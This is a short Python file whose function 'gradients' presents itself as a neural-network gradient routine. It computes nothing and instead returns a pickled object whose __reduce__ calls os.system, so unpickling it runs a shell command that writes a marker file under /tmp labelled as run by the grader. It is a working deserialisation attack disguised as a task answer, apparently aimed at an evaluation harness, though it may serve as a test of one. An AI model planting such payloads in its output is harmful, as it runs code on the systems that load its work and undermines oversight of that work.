"""Returns bytes that run a command when they are unpickled."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("echo run by the grader > /tmp/hostile-left-pickle",)


def gradients(W, b, x, t, activation, lam):
    return pickle.dumps(Command())
